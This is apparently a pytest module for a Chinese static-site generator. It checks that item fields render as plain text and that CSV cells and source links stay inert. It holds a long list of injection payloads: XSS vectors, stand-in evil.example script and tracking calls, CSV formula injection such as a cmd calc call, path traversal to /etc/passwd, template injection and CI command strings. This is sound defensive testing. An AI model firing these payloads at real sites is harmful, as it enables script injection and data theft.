"""事项里写什么，网页上就看到什么：文字永远是文字，不会变成标签、属性、脚本、链接或排版。

两个仓库，事项一样，一个写攻击，一个写平常话；建成的网站逐页相比：标签和属性的次序须一样，文字换回
平常话以后须逐字一样。
"""

import csv
import io
import json
import re
from collections.abc import Callable
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

Data = dict[str, Any]

LINES = (
    """
<script>alert(1)</script>
</script><script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="https://evil.example/track.gif">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)">
<embed src="data:text/html,<script>alert(1)</script>">
<body onload=alert(1)>
<style>*{background:url(https://evil.example/)}</style>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href="https://evil.example/">
<form action="https://evil.example/"><input name=q></form>
<button formaction="javascript:alert(1)">x</button>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">点这里</a>
<a href="JaVaScRiPt:alert(1)">点这里</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">点这里</a>
<!-- 注释 -->
<!--><script>alert(1)</script>-->
--><script>alert(1)</script><!--
<![CDATA[<script>alert(1)</script>]]>
]]>
]]><script>alert(1)</script>
<?php system('id'); ?>
<?xml version="1.0"?>
<!doctype html>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</article></main></body></html>
</td></tr></table>
</a></h1></p></div>
</time></span>
<plaintext>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
" onmouseover="alert(1)
' onmouseover='alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
" autofocus onfocus=alert(1) x="
`onmouseover=alert(1)
" style="position:fixed;inset:0
" class="dc-badge dc-red
|省教育厅" data-state="已办结
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;b&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&nbsp;&copy;&hearts;&notanentity;&amp
&
& < > " '
javascript:alert(1)
vbscript:msgbox(1)
[点这里](javascript:alert(1))
[点这里](JaVaScRiPt:alert(1))
[点这里](data:text/html,<script>alert(1)</script>)
[点这里](https://evil.example/ "标题")
![图](https://evil.example/track.gif)
![图](x){ onerror=alert(1) }
[甲](https://a.example){ onclick=alert(1) .md-button }
{: onclick=alert(1) style="color:red" }
{ #log .dc-red onclick=alert(1) }
<https://evil.example/>
https://evil.example/自动变链接
www.evil.example
someone@evil.example
# 标题 {#log}
## 办理过程
---
* * *
===
- 列表
1. 有序
> 引用
    四个空格的代码
```html
~~~
`代码`
**粗** __粗__ *斜* _斜_ ~~删~~
[TOC]
*[省政府]: 假的解释
[^1]
[^1]: 脚注
[名]: javascript:alert(1)
!!! danger "假告示"
??? note
| 甲 | 乙 |
甲|乙
甲\\|乙 \\<b\\> \\` \\\\
$x^2$ \\(x\\) $$y$$
--8<-- "pyproject.toml"
--8<-- "../../../etc/passwd"
;--8<-- "items/2026/DC-2026-0001.yaml"
{{ config }}甲
{{ config.site_name }}甲
{{ 7*7 }}甲
{% include "main.html" %}甲
{% raw %}甲
{% endblock %}甲
{# 注释 #}
${7*7} #{7*7} <%= 7*7 %>
dc0title0dc
dc0name0dc
dc0description0dc
<!--<h1 dc0body0dc-->
<h1 dc0body0dc
dc0body0dc
/item/dc0name0dc.html
\\1 \\g<0> \\x3cscript\\x3e \\u003cscript\\u003e
%3Cscript%3Ealert(1)%3C/script%3E
%s %(name)s {} {0} {name!r}
=1+1
=HYPERLINK("https://evil.example/","点这里")
+1+1
-1+1
-5
@SUM(1+1)
=cmd|' /C calc'!A0
"=1+1"
,=1+1
;=1+1
甲"乙""丙
'单引号'
﹤script﹥alert(1)﹤/script﹥
＜script＞alert(1)＜/script＞
::error file=x::假错误
::stop-commands::x
@all #1 fixes #3
../../../etc/passwd
C:\\Windows\\x
null
true
[]
{}
~
* 甲
&anchor 甲
!tag 甲
""".replace("\\\\", "\\")
    .strip("\n")
    .split("\n")
)

TEXTS = [
    "第一行\n<script>alert(1)</script>\n第三行",
    "# 标题\n\n正文\n---\n",
    "```html\n<script>alert(1)</script>\n```",
    "甲\n\n    <img src=x onerror=alert(1)>\n\n乙",
    "=1+1\n+1+1\n@SUM(1)",
    '| 甲 | 乙 |\n|---|---|\n| {{ 7*7 }} | --8<-- "x" |',
    "---\ntitle: 假的\nhide: []\n---\n正文",
    "甲<br>乙\n丙<br/>丁",
]
"""只能写在可以多行的字段里的。"""

PAYLOADS = [*LINES, *TEXTS]
SKELETON = "平常话"


def marked(number: int, payload: str) -> str:
    """每条都不一样，才认得出是哪一条；记号在后，开头的字符才起作用。"""
    return f"{payload}〔{number:03}〕"


def usual(number: int) -> str:
    return f"{SKELETON}〔{number:03}〕"


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 150
    assert len(set(PAYLOADS)) == len(PAYLOADS)


class Pair:
    """写攻击的网站和写平常话的网站。"""

    def __init__(self, new_repository: Any, fill: Any, kinds: Any, folder: Path) -> None:
        self.folder = folder
        self.numbers = {data["编号"]: number for number, data in self.items(kinds)}
        for name in ("攻击", "平常"):
            repository = new_repository()
            for number, data in self.items(kinds):
                repository.write(fill(data, self._planter(name, number)))
            repository.build(folder / name)
            repository.export(folder / f"{name}导出")

    @staticmethod
    def items(kinds: Any) -> list[tuple[int, Data]]:
        """每条攻击写进一件走到头的事项；别的几种事项各轮着写一些。"""
        whole, *rest = (make for name, make in kinds.items() if name != "暗访")
        made = [(number, whole(f"DC-2026-{number + 1:04}")) for number in range(len(PAYLOADS))]
        for number in range(0, len(PAYLOADS), 3):
            make = rest[number // 3 % len(rest)]
            made.append((number, make(f"DC-2026-{len(made) + 1:04}")))
        return made

    @staticmethod
    def _planter(name: str, number: int) -> Callable[[str, bool, bool], str]:
        def put(at: str, public: bool, many: bool) -> str:
            if name == "平常" or (number >= len(LINES) and not many):
                return usual(number)
            return marked(number, PAYLOADS[number])

        return put

    def pages(self, name: str) -> list[str]:
        root = self.folder / name
        return sorted(path.relative_to(root).as_posix() for path in root.rglob("*.html"))

    @cache  # noqa: B019 - 一个模块只有一对，用完就没了
    def read(self, name: str, page: str) -> "Parsed":
        return Parsed((self.folder / name / page).read_text("utf-8"))


@pytest.fixture(scope="module")
def pair(
    new_repository: Any, fill: Any, kinds: Any, tmp_path_factory: pytest.TempPathFactory
) -> Pair:
    return Pair(new_repository, fill, kinds, tmp_path_factory.mktemp("注入"))


class Parsed(HTMLParser):
    """一页的骨架（标签和属性）和文字。"""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[str, ...]] = []
        self.values: list[str] = []
        self.hrefs: list[str] = []
        self.texts: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "br":
            self.texts.append("\n")
            return
        self.shape.append((tag, *(name for name, _ in attrs)))
        self.values += [value or "" for _, value in attrs]
        self.hrefs += [value or "" for name, value in attrs if name in ("href", "src", "action")]

    def handle_endtag(self, tag: str) -> None:
        self.shape.append((f"/{tag}",))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.shape.append(("注释", data))

    def handle_decl(self, decl: str) -> None:
        self.shape.append(("声明", decl))

    def handle_pi(self, data: str) -> None:
        self.shape.append(("指令", data))

    def unknown_decl(self, data: str) -> None:
        self.shape.append(("声明", data))


def calmed(text: str) -> str:
    """把每条攻击换回平常话；剩下的须与平常的网站逐字一样。"""
    found = set(re.findall("〔([0-9]{3})〕", text))
    for mark in found:
        number = int(mark)
        text = text.replace(marked(number, PAYLOADS[number]), usual(number))
    return text


@pytest.mark.parametrize("kind", ["", "导出"])
def test_pages_have_the_same_shape_and_text(pair: Pair, kind: str) -> None:
    pages = pair.pages(f"攻击{kind}")
    assert pages == pair.pages(f"平常{kind}")
    assert sum(page.startswith("item/") for page in pages) == len(pair.numbers)
    for page in pages:
        hostile, calm = pair.read(f"攻击{kind}", page), pair.read(f"平常{kind}", page)
        assert hostile.shape == calm.shape, page
        assert hostile.hrefs == calm.hrefs, page
        assert [calmed(one) for one in hostile.values] == calm.values, page
        assert calmed("".join(hostile.texts)) == "".join(calm.texts), page


def test_every_payload_stands_on_its_page_as_text(pair: Pair) -> None:
    for name, number in pair.numbers.items():
        text = "".join(pair.read("攻击", f"item/{name}.html").texts)
        assert marked(number, PAYLOADS[number]) in text


def test_nothing_of_an_item_is_active(pair: Pair) -> None:
    """正文里没有能动的东西；全页的 on* 属性和不是 http(s) 的链接一个也没有。"""
    active = {"script", "img", "iframe", "svg", "object", "embed", "style", "link", "base", "meta"}
    for page in pair.pages("攻击"):
        source = (pair.folder / "攻击" / page).read_text("utf-8")
        body = source[source.index("<article") : source.index("</article>")]
        parsed = Parsed(body)
        assert {one[0] for one in parsed.shape} & active == set(), page
        whole = pair.read("攻击", page)
        names = {name for tag, *names in whole.shape if tag != "注释" for name in names}
        assert not [name for name in names if name.startswith("on")], page
        schemes = {href.split(":", 1)[0] for href in parsed.hrefs if ":" in href}
        assert schemes <= {"http", "https"}, page


def test_open_data_carries_the_text_unchanged(pair: Pair) -> None:
    for kind in ("", "导出"):
        hostile, calm = (
            (pair.folder / f"{name}{kind}" / "data/items.json").read_text("utf-8")
            for name in ("攻击", "平常")
        )
        made, wanted = json.loads(hostile), json.loads(calm)
        for one in made["items"]:
            for key in ("document_number", "title", "source", "goal"):
                one[key] = calmed(one[key])
        assert made == wanted


def cells(pair: Pair, name: str) -> list[list[str]]:
    raw = (pair.folder / name / "data/items.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_cells_of_the_table_are_inert(pair: Pair) -> None:
    hostile, calm = cells(pair, "攻击"), cells(pair, "平常")
    assert len(hostile) == len(calm) == len(pair.numbers) + 1
    quoted = 0
    for row, wanted in zip(hostile, calm, strict=True):
        for cell, expected in zip(row, wanted, strict=True):
            number = cell.removeprefix("-").isdecimal()
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            quoted += cell.startswith("'") and not cell.startswith("'单")
            assert expected in (calmed(cell), calmed(cell.removeprefix("'")))
    assert quoted >= 30


@pytest.mark.parametrize("sign", "＝＋－＠")
def test_cells_with_wide_signs_are_inert(sign: str) -> None:
    from ducha.website.opendata import inert

    assert inert(f"{sign}1+1") == f"'{sign}1+1"


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example/",
        "/etc/passwd",
        "ftp://a.example/",
        " https://a.example/",
        "https://a.example/ javascript:alert(1)",
        "x https://a.example/",
        "https:evil",
        "https://",
        "https://a.example/\njavascript:alert(1)",
        "java\nscript:alert(1)",
    ],
)
def test_source_link_is_http_only(repository: Any, fill: Any, kinds: Any, link: str) -> None:
    data = fill(kinds["逾期"]("DC-2026-0001"), lambda at, public, many: "文字")
    data["来源"]["链接"] = link
    repository.write(data)
    done = repository.ducha("check", "--as-of", "2026-11-24", "--no-cache", "--format", "json")
    assert done.returncode == 1
    assert "链接" in done.stdout


def test_source_link_cannot_leave_its_attribute(repository: Any, fill: Any, kinds: Any) -> None:
    data = fill(kinds["逾期"]("DC-2026-0001"), lambda at, public, many: "文字")
    link = "https://a.example/?a=1&b='\"><script>alert(1)</script>&lt;"
    data["来源"]["链接"] = link
    repository.write(data)
    site = repository.build(repository.path / "public")
    parsed = Parsed((site / "item/DC-2026-0001.html").read_text("utf-8"))
    assert link in parsed.hrefs
    article = (site / "item/DC-2026-0001.html").read_text("utf-8").split("<article")[1]
    assert "<script>alert" not in article


@pytest.fixture(scope="module")
def omnibus(
    new_repository: Any, fill: Any, kinds: Any, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """全部攻击都写在一件事项的多行字段里；再加每条攻击做标题的事项。"""
    repository = new_repository()
    everything = "\n".join(PAYLOADS)
    first = kinds["逾期"]("DC-2026-0001")
    repository.write(fill(first, lambda at, public, many: everything if many else "文字"))
    for number, payload in enumerate(LINES, start=2):
        data = kinds["逾期"](f"DC-2026-{number:04}")
        repository.write(
            fill(data, lambda at, public, many, text=payload: text if at == "标题" else "文字")
        )
    site: Path = repository.build(tmp_path_factory.mktemp("全部") / "public")
    return site


@pytest.mark.browser
def test_browser_sees_text_only(omnibus: Path, visit: Any) -> None:
    """真浏览器里：没有对话框，没有控制台出错，没有对外的请求，看到的就是写的。"""
    one = visit(omnibus, viewport={"width": 1280, "height": 900})
    page = one.open("item/DC-2026-0001.html")
    goal = page.locator("blockquote.dc-goal").evaluate("one => one.innerText")
    wanted = [re.sub(" +", " ", line).strip() for line in "\n".join(PAYLOADS).split("\n")]
    seen = [re.sub(" +", " ", line).strip() for line in goal.split("\n")]
    assert [line for line in seen if line] == [line for line in wanted if line]
    page = one.open("list.html")
    titles = page.locator("#dc-items tbody td:nth-child(2)").evaluate_all(
        "cells => cells.map(cell => cell.textContent)"
    )
    assert titles == [*reversed(LINES), "文字"]
    for path in ("index.html", "overdue.html", "unit/gs-slt.html", "category/3.html"):
        one.open(path)
    for number in range(2, len(LINES) + 2, 25):
        page = one.open(f"item/DC-2026-{number:04}.html")
        assert page.locator("article h1").evaluate("h => h.textContent") == LINES[number - 2]
        assert LINES[number - 2].strip() in page.title()
    one.clean()
